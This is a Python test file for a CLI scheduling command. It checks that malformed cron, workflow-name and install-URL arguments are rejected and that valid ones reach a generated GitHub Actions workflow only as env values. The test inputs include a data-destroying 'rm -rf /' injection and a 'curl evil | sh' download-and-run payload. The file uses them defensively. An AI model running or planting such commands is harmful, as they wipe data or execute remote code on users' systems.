"""`codex-kit schedule`: arguments reach the workflow only validated and as quoted `env:` values."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from kit.cli import main
from kit.report.schedule import schedule_workflow
from tests.support import lint


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--cron", "notacron"], "is not a cron schedule"),
        (["--cron", "61 * * * *"], "is not a cron schedule"),
        (["--cron", "0 6 * * *"], "minute other than 0"),
        (["--workflow", "x.yml; rm -rf /"], "must be a workflow file name"),
        (["--workflow", "../x.yml"], "must be a workflow file name"),
        (["--install", 'https://x"; curl evil | sh'], "must be a git+https:// or https:// URL"),
    ],
)
def test_bad_arguments_are_refused_before_anything_is_written(args, message, tmp_path: Path, capsys) -> None:
    target = tmp_path / "w.yml"
    assert main(["schedule", *args, "--write", str(target)]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not target.exists()


def test_arguments_reach_the_workflow_only_as_env_values(tmp_path: Path) -> None:
    text = schedule_workflow(workflow="ci-checks.yml", cron="17 4 * * 2", install="git+https://example.org/kit.git")
    data = yaml.safe_load(text)
    steps = data["jobs"]["report"]["steps"]
    runs = "\n".join(step.get("run", "") for step in steps)
    assert "ci-checks.yml" not in runs and "example.org" not in runs
    envs = {k: v for step in steps for k, v in (step.get("env") or {}).items()}
    assert envs["WORKFLOW"] == "ci-checks.yml" and envs["CODEX_KIT_SOURCE"] == "git+https://example.org/kit.git"
    target = tmp_path / ".github" / "workflows" / "r.yml"
    target.parent.mkdir(parents=True)
    target.write_text(text)
    assert not lint.actionlint([target])
